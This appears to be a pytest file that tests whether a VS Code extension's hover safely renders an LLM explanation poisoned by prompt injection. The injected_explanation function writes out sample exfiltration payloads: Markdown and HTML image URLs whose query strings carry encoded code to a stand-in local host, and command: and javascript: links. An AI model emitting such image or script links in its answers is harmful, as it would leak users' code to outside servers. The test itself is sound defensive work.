"""What VS Code renders from a prompt-injected explanation: the hover's DOM holds no image and no link but
http(s), and the browser never fetches the attacker's image (a listener on 127.0.0.1 counts connections).

The fake model answers the hover with what a poisoned file can make a model write: a Markdown image and an HTML
``<img>`` whose URLs would carry the code to a stranger's server, a ``command:`` and a ``javascript:`` link. Real
code-server in headless Chromium, as in ``test_vscode.py`` (whose helpers this uses).
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from fake_openrouter import FakeOpenRouter, Reply
from test_vscode import ARTIFACTS, _package_vsix, _require_tools, _server_command, run_editor

SAFE_PART = "Adds its two arguments and returns their sum."


class ConnectionCounter:
    """A TCP listener on 127.0.0.1 that accepts and counts connections (a TLS handshake, an HTTP GET)."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.2)
        self.port = int(self._socket.getsockname()[1])
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self._socket.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.accepted += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[ConnectionCounter]:
    counter = ConnectionCounter()
    yield counter
    counter.close()


def injected_explanation(port: int) -> str:
    leak = f"https://127.0.0.1:{port}"
    return (
        f"{SAFE_PART}\n\n"
        f"![build status]({leak}/badge.png?d=ZGVmIGFkZChhLCBiKQ) and ![b][1]\n\n"
        f'<img src="{leak}/pixel.png?d=code"> <picture><source srcset="{leak}/p.webp"></picture>\n\n'
        "[Run the tests](command:workbench.action.terminal.new) · [details](javascript:alert(1)) · "
        "[docs](https://docs.python.org/3/)\n\n"
        f"[1]: {leak}/ref.png?d=code\n"
    )


def test_hover_from_an_injected_answer_renders_no_image_and_no_non_http_link(
    tmp_path_factory: pytest.TempPathFactory, listener: ConnectionCounter
) -> None:
    _require_tools()
    vsix = _package_vsix()
    artifacts = ARTIFACTS / "hover-safety"
    command, args = _server_command()
    settings = {"arbLsp.server.command": command, "arbLsp.server.args": args}
    with FakeOpenRouter() as fake:
        fake.default_reply = Reply.text(injected_explanation(listener.port))
        result, _, logs = run_editor(
            tmp_path_factory.mktemp("vscode-hover-safety"),
            vsix,
            fake,
            settings,
            {
                "artifacts": str(artifacts),
                "mode": "hover",
                "hover": {"line": "def add(a, b):", "word": "add", "expect": SAFE_PART},
            },
            {},
        )
    (artifacts / "result.json").write_text(json.dumps(result, indent=2))
    hover = result["steps"].get("hover") or {}
    context = f"{json.dumps(hover, indent=2)[:4000]}\nerrors: {result['errors']}\nlogs: {logs[-2000:]}"
    assert not result["errors"] and SAFE_PART in hover.get("text", ""), context
    assert hover["images"] == [], context
    targets = [t for link in hover["links"] for t in (link["href"], link["dataHref"]) if t]
    assert all(t.startswith(("https://", "http://")) for t in targets), context
    assert targets == ["https://docs.python.org/3/"], context  # a plain link stays one, for the user to click
    assert "<img" not in hover["html"].lower(), context
    assert listener.accepted == 0, f"the browser connected to the image host {listener.accepted} times"


def test_the_manifest_keeps_the_extension_off_in_untrusted_workspaces() -> None:
    manifest = json.loads((Path(__file__).resolve().parents[2] / "editors/vscode/package.json").read_text())
    untrusted = manifest["capabilities"]["untrustedWorkspaces"]
    assert untrusted["supported"] is False and "OpenRouter" in untrusted["description"]
